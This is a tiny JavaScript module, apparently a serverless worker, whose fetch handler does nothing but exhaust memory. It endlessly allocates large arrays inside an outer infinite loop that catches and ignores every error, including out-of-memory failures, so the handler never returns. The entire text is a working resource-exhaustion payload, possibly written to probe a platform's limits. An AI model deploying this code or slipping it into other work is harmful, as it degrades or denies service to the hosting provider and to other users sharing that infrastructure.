export default { async fetch(request) {
const a = []; for (;;) { try { for (;;) a.push(new Array(1000).fill(1)) } catch {} }
} };
